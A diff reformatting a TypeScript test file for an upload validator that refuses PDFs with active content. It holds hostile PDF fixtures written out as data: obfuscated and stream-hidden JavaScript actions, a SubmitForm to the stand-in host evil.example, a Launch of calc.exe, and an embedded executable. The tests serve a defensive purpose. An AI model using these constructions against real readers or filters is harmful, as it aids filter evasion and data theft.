@@ -75,7 +75,10 @@ describe('images are decoded and stored re-encoded', () => {
 
   it('a PNG with a valid header and a garbage body is refused as unreadable', async () => {
     const png = fixture('signature.png');
-    const garbage = concat(png.subarray(0, 33), new Uint8Array(4000).map((_, i) => (i * 7919) & 255));
+    const garbage = concat(
+      png.subarray(0, 33),
+      new Uint8Array(4000).map((_, i) => (i * 7919) & 255),
+    );
     const res = await upload(t, inv.token, '/upload-sign', garbage, 'sign.png');
     expect(res.status).toBe(415);
     expect(res.body.errors).toEqual([UPLOAD_MESSAGES.unreadable]);
@@ -100,7 +103,13 @@ describe('PDFs with active content are refused', () => {
     ['a name spelled with #xx escapes', pdf('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'), UPLOAD_MESSAGES.pdfActive],
     [
       'JavaScript inside a compressed object stream',
-      pdf('', [concat(enc('3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n'), deflateSync(enc('4 0 << /S /JavaScript /JS (app.alert(1)) >>')), enc('\nendstream\nendobj\n'))]),
+      pdf('', [
+        concat(
+          enc('3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n'),
+          deflateSync(enc('4 0 << /S /JavaScript /JS (app.alert(1)) >>')),
+          enc('\nendstream\nendobj\n'),
+        ),
+      ]),
       UPLOAD_MESSAGES.pdfActive,
     ],
     ['an encrypted (password-protected) PDF', pdf('', [], '/Encrypt 5 0 R '), UPLOAD_MESSAGES.pdfEncrypted],
@@ -126,10 +135,16 @@ describe('PDFs with active content are refused', () => {
   });
 
   it.each([
-    ['a SubmitForm action on a page annotation', pdf('', [enc('3 0 obj\n<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F (https://evil.example/) >> >>\nendobj\n')])],
+    [
+      'a SubmitForm action on a page annotation',
+      pdf('', [enc('3 0 obj\n<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F (https://evil.example/) >> >>\nendobj\n')]),
+    ],
     ['a Launch action in a page’s additional actions', pdf('', [enc('3 0 obj\n<< /Type /Page /AA << /O << /S /Launch /F (calc.exe) >> >> >>\nendobj\n')])],
     ['a file specification with an embedded file', pdf('', [enc('3 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>\nendobj\n')])],
-    ['a JavaScript action chained by /Next after a harmless one', pdf('/OpenAction << /S /URI /URI (https://example.com/) /Next << /S /JavaScript /JS 4 0 R >> >>')],
+    [
+      'a JavaScript action chained by /Next after a harmless one',
+      pdf('/OpenAction << /S /URI /URI (https://example.com/) /Next << /S /JavaScript /JS 4 0 R >> >>'),
+    ],
   ] as const)('%s is refused', async (_, bytes) => {
     const res = await upload(t, inv.token, '/upload-cheque', bytes, 'cheque.pdf');
     expect(res.status).toBe(415);
